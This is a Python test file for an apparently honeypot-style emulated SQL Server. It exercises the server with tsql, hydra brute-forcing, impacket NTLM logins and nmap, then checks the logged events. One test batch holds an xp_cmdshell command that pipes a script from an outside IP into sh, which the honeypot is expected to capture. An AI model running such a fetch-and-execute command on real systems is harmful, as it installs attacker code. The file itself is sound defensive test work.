"""
cases_mssql.py - integration cases for the SQL Server front-end (protocol = mssql).

Imported by run.py after cases.py; every @case here is appended to cases.ALL.

freetds' tsql logs in (the exact password in login.success, batches as command.input, an
xp_cmdshell URL handed to the capture pipeline), and is refused for other users with SQL Server's
18456 text; hydra's mssql module (TDS 4.2 login) makes 3x3 attempts, each one login.failed;
impacket's TDS client logs in with Windows authentication, and the NetNTLMv2 hashcat line in the
event is verified here with the password (HMAC-MD5 over the challenge and blob); nmap -sV names the
SQL Server version drawn for the sensor.
"""
import hashlib
import hmac
import os
import re
import shutil
import subprocess
import time

from harness import T, Service, Skip, by, run_hydra, identity
from cases import case, stop_and_read


def verify_netntlmv2(line, user, domain, password):
    """The hashcat 5600 line cracks with this password (what hashcat itself computes)."""
    from impacket import ntlm
    u, empty, dom, chal, proof, blob = line.split(":")
    assert (u, empty, dom) == (user, "", domain), line
    nth = ntlm.compute_nthash(password)
    key = hmac.new(nth, (u.upper() + dom).encode("utf-16le"), hashlib.md5).digest()
    got = hmac.new(key, bytes.fromhex(chal) + bytes.fromhex(blob), hashlib.md5).hexdigest()
    assert got == proof, "NTProofStr mismatch in %s" % line


def tsql(port, user, password, script, timeout=None):
    return subprocess.run(["tsql", "-H", "127.0.0.1", "-p", str(port), "-U", user, "-P", password],
                          input=script.encode(), capture_output=True, timeout=timeout or T(20))


@case
def mssql_tsql_login_batches(ctx):
    if not shutil.which("tsql"):
        raise Skip("tsql (freetds-bin) not installed")
    svc = Service("mssql", protocol="mssql")
    d = ctx.daemon("mssql-tsql", [svc])
    d.start()
    r = tsql(svc.port, "sa", "S3cr3t!x",
             "select @@version\ngo\nexec xp_cmdshell 'curl -s http://198.51.100.23/m.sh | sh'\ngo\nquit\n")
    out = r.stdout.decode("utf-8", "replace")
    assert "Microsoft SQL Server" in out and "(1 row affected)" in out, out + r.stderr.decode()
    assert identity(d, "mssql_version") in out, out
    r2 = tsql(svc.port, "bob", "nope", "quit\n")
    err = (r2.stdout + r2.stderr).decode("utf-8", "replace")
    assert "Login failed for user 'bob'" in err, err
    d.wait_event(lambda e: e["eventid"] == "login.failed", timeout=T(10), what="login.failed")
    evs = stop_and_read(d)
    ok = by(evs, "login.success")
    assert len(ok) == 1, ok
    e = ok[0]
    assert (e["username"], e["password"], e["method"]) == ("sa", "S3cr3t!x", "sql"), e
    assert e["protocol"] == "mssql" and e["client_app"] == "TSQL" and e["server_name"] == "127.0.0.1", e
    bad = by(evs, "login.failed")
    assert len(bad) == 1 and (bad[0]["username"], bad[0]["password"]) == ("bob", "nope"), bad
    cmds = [c for c in by(evs, "command.input") if c["session"] == e["session"]]
    assert [c["input"].strip() for c in cmds] == [
        "select @@version", "exec xp_cmdshell 'curl -s http://198.51.100.23/m.sh | sh'"], cmds
    assert cmds[1]["command"] == "xp_cmdshell", cmds
    urls = [u for u in evs if u.get("url") == "http://198.51.100.23/m.sh"]
    assert urls and all(u["found_in"] == "mssql" for u in urls), [x["eventid"] for x in evs]
    pre = by(evs, "mssql.prelogin")
    assert pre and pre[0]["encryption"] in ("off", "on", "not_supported", "required"), pre
    ctx.note("tsql: %s, %d batches" % (identity(d, "mssql_version"), len(cmds)))


@case
def mssql_hydra_attempts(ctx):
    if not shutil.which("hydra"):
        raise Skip("hydra not installed")
    svc = Service("mssql", protocol="mssql")
    d = ctx.daemon("mssql-hydra", [svc])
    d.start()
    users, passwords = ["admin", "dbo", "backup"], ["123456", "sql2019", "P@ssw0rd"]
    ul, pl = os.path.join(d.tmp, "u.txt"), os.path.join(d.tmp, "p.txt")
    with open(ul, "w") as f:
        f.write("\n".join(users) + "\n")
    with open(pl, "w") as f:
        f.write("\n".join(passwords) + "\n")
    r, out, before = run_hydra(d, ["-I", "-L", ul, "-P", pl, "-t", "3", "-V", "-s", str(svc.port), "127.0.0.1",
                                   "mssql"])
    attempts = re.findall(r'^\[(?:RE-)?ATTEMPT\] target \S+ - login "(.*)" - pass "(.*)" - \d+ of \d+', out, re.M)
    assert r.returncode == 0 and "0 valid password" in out, out[-2000:] + r.stderr.decode()[-1000:]
    assert len(attempts) == 9, out
    d.wait_event(lambda e: e["eventid"] == "login.failed", count=before + 9, timeout=T(10), what="9 login.failed")
    time.sleep(T(0.5))
    evs = stop_and_read(d)
    failed = by(evs, "login.failed")[before:]
    assert sorted((e["username"], e["password"]) for e in failed) == sorted(attempts), failed
    assert len({e["session"] for e in failed}) == 9
    ctx.note("hydra: %d attempts, %d login.failed" % (len(attempts), len(failed)))


@case
def mssql_nmap_version(ctx):
    if not shutil.which("nmap"):
        raise Skip("nmap not installed")
    svc = Service("mssql", protocol="mssql")
    d = ctx.daemon("mssql-nmap", [svc])
    d.start()
    r = subprocess.run(["nmap", "-Pn", "-n", "-sV", "-p", str(svc.port), "127.0.0.1"],
                       capture_output=True, stdin=subprocess.DEVNULL, timeout=T(120))
    out = r.stdout.decode("utf-8", "replace")
    assert "honeypot" not in out.lower(), out
    ver = identity(d, "mssql_version")
    major, minor, build = ver.split(".")[:3]
    year = {"11": "2012", "13": "2016", "14": "2017", "15": "2019"}[major]
    line = [l for l in out.splitlines() if l.startswith("%d/tcp" % svc.port)]
    assert line and "ms-sql-s" in line[0] and "Microsoft SQL Server %s" % year in line[0], out
    assert "%s.%02d.%s" % (major, int(minor), build) in line[0], out
    ctx.note("nmap: %s" % re.sub(r"\s+", " ", line[0]))
    stop_and_read(d)


@case
def mssql_ntlm_impacket(ctx):
    try:
        from impacket import tds
    except ImportError:
        raise Skip("python3-impacket not installed")
    svc = Service("mssql", protocol="mssql")
    d = ctx.daemon("mssql-ntlm", [svc])
    d.start()
    ms = tds.MSSQL("127.0.0.1", svc.port)
    ms.connect()
    assert ms.login(None, "bob", "Winter2024!", "CORP", None, True) is False
    ms.disconnect()
    ms = tds.MSSQL("127.0.0.1", svc.port)
    ms.connect()
    assert ms.login(None, "sa", "Summer!99", None, None, False) is True
    ms.sql_query("SELECT name FROM sys.databases")
    ms.disconnect()
    d.wait_event(lambda e: e["eventid"] == "command.input", timeout=T(10), what="command.input")
    evs = stop_and_read(d)
    nt = [e for e in by(evs, "login.failed") if e["method"] == "ntlm"]
    assert len(nt) == 1, by(evs, "login.failed")
    e = nt[0]
    assert (e["username"], e["domain"], e["hash_format"]) == ("bob", "CORP", "hashcat:5600"), e
    verify_netntlmv2(e["hash"], "bob", "CORP", "Winter2024!")
    ok = by(evs, "login.success")
    assert len(ok) == 1 and ok[0]["password"] == "Summer!99", ok
    assert [c["input"].strip() for c in by(evs, "command.input")] == ["SELECT name FROM sys.databases"], evs
    ctx.note("impacket NTLM: hashcat 5600 line verified")
